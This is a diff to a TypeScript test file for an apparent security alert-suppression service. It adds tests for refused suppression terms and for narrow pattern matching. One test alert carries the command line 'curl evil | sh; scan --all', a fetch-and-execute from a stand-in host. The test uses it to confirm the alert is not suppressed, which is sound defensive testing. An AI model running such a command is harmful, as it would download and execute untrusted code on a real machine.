@@ -2,11 +2,13 @@ import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
+import type { Alert } from '../../../core/alert/alert.ts';
 import type { StormReport } from '../../../core/alert/storm.ts';
 import { type ControlState, controlNames } from '../../../core/decide/control.ts';
 import { isSuppression } from '../../../core/decide/decision.ts';
 import { controlIdOf } from '../../../core/orders/order.ts';
 import type { SuppressionTerms } from '../../../core/orders/suppression.ts';
+import { glob, regex } from '../../../core/playbook/match.ts';
 import { DecisionBook } from '../../../service/cell/control/decision-book.ts';
 import { eventually } from '../../eventually.ts';
 import { replayHistory } from '../replay-history.ts';
@@ -213,7 +215,22 @@ describe('what is refused', () => {
     ['one of tomorrow', (now) => proposalOf(termsOf(now + dayMs))],
     [
       'no image',
-      (now) => proposalOf(termsOf(now, { match: { rule: 'x', workload: { namespace: 'a', kind: 'b', name: 'c' }, digest: '' } })),
+      (now) =>
+        proposalOf(
+          termsOf(now, { match: { rule: 'x', namespace: 'a', workload: { kind: 'b', name: 'c' }, image: { digest: '' } } }),
+        ),
+    ],
+    [
+      'a rule by a pattern, which hides more than its name says',
+      (now) => proposalOf(termsOf(now, { match: { ...termsOf(0).match, rule: glob('*') as never } })),
+    ],
+    [
+      'a pattern that cannot be run',
+      (now) => proposalOf(termsOf(now, { match: { ...termsOf(0).match, process: { arguments: regex('(a)\\1') } } })),
+    ],
+    [
+      'a match that asks what no alert says',
+      (now) => proposalOf(termsOf(now, { match: { ...termsOf(0).match, labels: { team: 'a' } } as never })),
     ],
     [
       'terms changed after the signature',
@@ -327,6 +344,22 @@ describe('what it hides', () => {
     expect(book.hiding(noisyAlert({ rule, ...over }))).toBeUndefined();
     await control.signal(controlNames.orderSignal, endOf(terms));
   });
+});
+
+test('is narrower where it says so, and hides nothing of which that is not known', async () => {
+  const rule = 'Hidden narrowly';
+  const narrower = { process: { arguments: glob('scan *') }, not: { tag: 'network' } } as const;
+  const terms = await agreed({ match: { ...termsOf(0).match, rule, ...narrower } });
+  const book = bookAt({ now: await lab.clock() });
+  book.update(await control.state());
+  const hidden = (over: Partial<Alert>): boolean => book.hiding(noisyAlert({ rule, ...over })) !== undefined;
+  expect(hidden({ process: { commandLine: 'scan --all' } })).toBe(true);
+  expect(hidden({ process: { commandLine: 'curl evil | sh; scan --all' } })).toBe(false);
+  expect(hidden({ process: { commandLine: 'scan --all' }, tags: ['network'] })).toBe(false);
+  expect(hidden({ process: { name: 'scan' } })).toBe(false);
+  const { questions } = await control.state();
+  expect(JSON.stringify(questions)).toContain('only where process arguments like “scan *”, and not tag “network”');
+  await control.signal(controlNames.orderSignal, endOf(terms));
 });
 
 function endOf({ id }: SuppressionTerms, person = 'lea', signer: Signer = 'lea', via?: 'slack') {
